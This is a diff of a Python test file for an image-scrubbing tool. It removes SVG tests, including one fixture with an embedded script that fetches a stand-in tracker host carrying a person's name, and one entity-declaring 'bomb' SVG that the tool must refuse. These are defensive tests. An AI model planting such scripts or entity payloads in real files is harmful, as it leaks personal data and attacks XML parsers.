@@ -1,6 +1,6 @@
-"""Pictures other than PNG/JPEG (made by Pillow, pillow-heif and by hand for SVG/Netpbm):
-scrubbed by OCR and written back as PNG, every TIFF page, the first GIF/WebP frame, no metadata;
-SVG and Netpbm are pictures, never text."""
+"""Pictures other than PNG/JPEG (made by Pillow, pillow-heif and by hand for Netpbm): scrubbed
+by OCR and written back as PNG, every TIFF page, the first GIF/WebP frame, no metadata; Netpbm
+is a picture, never text (SVG: test_svg.py)."""
 
 from __future__ import annotations
 
@@ -139,40 +139,6 @@ def test_tiff_metadata_is_dropped_and_listed():
     assert NAME.encode() not in result.output and OTHER.encode() not in result.output
     assert any(m.startswith("EXIF") for m in result.report["metadata_removed"])
     assert Image.open(io.BytesIO(result.output)).info.get("exif") is None
-
-
-SVG = f"""<?xml version="1.0" encoding="UTF-8"?>
-<svg xmlns="http://www.w3.org/2000/svg" width="500" height="110" viewBox="0 0 500 110">
-<rect width="500" height="110" fill="white"/>
-<path d="M 0.70710678,61.536232 L 12.5,33.25 C 1.5,2.25 3.75,4.5 6,7" stroke="black"/>
-<text x="10" y="70" font-family="DejaVu Sans" font-size="30">Owner {NAME}</text>
-<script>fetch("https://tracker.example/?u={NAME}")</script>
-</svg>"""
-
-
-@pytest.mark.skipif(shutil.which("soffice") is None, reason="SVG is rasterized by LibreOffice")
-def test_svg_is_rasterized_never_read_as_text():
-    data = SVG.encode()
-    assert sniff("logo.svg", data).kind == "svg"
-    doc = open_document("svg", data, Limits())
-    assert doc.output_kind == "png"
-    assert all(s.kind == "ocr" for s in doc.segments)  # no path data, no markup
-    assert not any("0.70710678" in s.text or "xmlns" in s.text for s in doc.segments)
-    result = scrub("logo.svg", data)
-    assert result.extension == ".png"
-    assert not any(f.entity_type == "PHONE_NUMBER" for f in result.findings)
-    assert_png_without(result.output, NAME)
-    assert b"tracker" not in result.output and b"<svg" not in result.output
-
-
-def test_svg_with_entities_is_refused():
-    bomb = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
-    assert sniff("bomb.svg", bomb.encode()).kind == "svg"  # a picture, never text
-    result = Scrubber().scrub("bomb.svg", bomb.encode(), TERMS, Pseudonymizer())
-    assert result.status == "failed"
-    assert result.error == (
-        "This SVG picture is not well-formed XML (or declares entities) and cannot be read."
-    )
 
 
 def test_plain_pgm_pixel_rows_are_pixels_not_text():
